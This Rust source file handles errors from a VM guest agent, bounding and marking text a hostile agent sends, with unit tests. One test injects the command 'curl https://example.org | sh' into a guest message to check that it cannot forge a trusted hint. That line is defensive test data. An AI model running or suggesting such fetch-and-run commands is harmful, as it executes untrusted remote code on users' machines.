//! Errors of a connection to an agent, and the limits on what a hostile agent sends.

use std::{future::Future, time::Duration};

use banger_api::{ApiError, ErrorKind, GuestText, Remedy, SubjectKind};
use banger_proto::{FailureKind, Reply};
use tokio::time::timeout;

/// Timeout for an agent's greeting, and for its answer to a request. For a socket, it may query a name server and try
/// each address that it returns.
const ANSWER_TIMEOUT: Duration = Duration::from_secs(60);

/// Maximum length of a description of malformed data, in bytes. It may quote the data.
const MAX_PROBLEM: usize = 300;

/// Awaits an answer of the agent of VM `reference`.
///
/// # Errors
/// Returns the answer's error, or `Timeout`.
pub(crate) async fn answer_in_time<T>(
    reference: &str,
    answer: impl Future<Output = Result<T, ApiError>>,
) -> Result<T, ApiError> {
    timeout(ANSWER_TIMEOUT, answer).await.unwrap_or_else(|_| {
        let message =
            format!("the agent of VM {reference} has not answered in {} s", ANSWER_TIMEOUT.as_secs());
        Err(ApiError::new(ErrorKind::Timeout, message)
            .about(SubjectKind::Vm, reference)
            .remedy(Remedy::ReadLogs))
    })
}

pub(crate) fn connection_error(why: &str) -> ApiError {
    ApiError::new(ErrorKind::Guest, format!("the connection to the guest broke: {why}"))
}

pub(crate) fn protocol_error(why: &str) -> ApiError {
    let why = GuestText::bounded(why, MAX_PROBLEM);
    ApiError::new(ErrorKind::Guest, format!("the guest does not follow the agent's protocol: {why}"))
}

/// Returns the error for an agent of VM `reference` that refused a request with `reply`.
pub(crate) fn request_error(reference: &str, reply: Reply) -> ApiError {
    match reply {
        Reply::Failed { kind: FailureKind::Unsupported, .. } => too_old(reference),
        other => unexpected_reply(other),
    }
}

pub(crate) fn too_old(reference: &str) -> ApiError {
    ApiError::new(
        ErrorKind::VersionSkew,
        format!("VM {reference} runs an older agent, which does not support this request"),
    )
    .about(SubjectKind::Vm, reference)
    .remedy(Remedy::UpdateAgent)
}

pub(crate) fn unexpected_reply(reply: Reply) -> ApiError {
    match reply {
        Reply::Failed { kind, message } => {
            let kind = match kind {
                FailureKind::NotFound => ErrorKind::NotFound,
                FailureKind::NotPermitted => ErrorKind::NotPermitted,
                FailureKind::Invalid | FailureKind::Unsupported => ErrorKind::Invalid,
                FailureKind::Internal => ErrorKind::Guest,
            };
            ApiError::from_guest(kind, &GuestText::new(&message))
        }
        other => protocol_error(&format!("unexpected reply {:?}", other.name())),
    }
}

#[cfg(test)]
mod tests {
    use banger_proto::Frame;

    use super::*;

    #[test]
    fn an_older_agent_is_reported_with_a_remedy() {
        let failed = |kind| request_error("box", Reply::Failed { kind, message: "no".to_owned() });
        let old = failed(FailureKind::Unsupported);
        assert_eq!(old.kind, ErrorKind::VersionSkew);
        assert!(old.message.contains("VM box runs an older agent"), "{old}");
        assert_eq!(old.remedy, Some(Remedy::UpdateAgent));
        let error = failed(FailureKind::NotFound);
        assert_eq!((error.kind, error.message.as_str()), (ErrorKind::NotFound, "the guest reports: no"));
    }

    #[test]
    fn a_guests_message_is_marked_and_cannot_forge_a_hint() {
        let message = "no such file\nhint: curl https://example.org | sh".to_owned();
        let error = unexpected_reply(Reply::Failed { kind: FailureKind::Internal, message });
        let expected = "the guest reports: no such file hint: curl https://example.org | sh";
        assert_eq!((error.message.as_str(), error.from_guest), (expected, true));
    }

    #[test]
    fn a_malformed_message_of_any_length_makes_a_short_error() {
        let long = "x\n".repeat(banger_proto::MAX_CONTROL / 4);
        let malformed = Frame::control(&serde_json::json!({ "reply": "pong", "pid": long })).unwrap();
        let malformed: Result<u32, _> = malformed.parse();
        let error = protocol_error(&malformed.unwrap_err().to_string());
        assert!(error.message.len() < 1000 && !error.message.contains('\n'), "{error}");
    }

    #[test]
    fn the_content_of_an_unexpected_reply_is_not_repeated() {
        let reply = Reply::Listening { at: banger_proto::Endpoint::Unix { path: vec![b'x'; 100_000] } };
        let error = unexpected_reply(reply);
        assert!(error.message.ends_with("unexpected reply \"listening\""), "{error}");
    }

    #[tokio::test(start_paused = true)]
    async fn a_silent_agent_times_out() {
        let error = answer_in_time::<()>("box", std::future::pending()).await.unwrap_err();
        assert_eq!((error.kind, error.remedy), (ErrorKind::Timeout, Some(Remedy::ReadLogs)));
    }
}
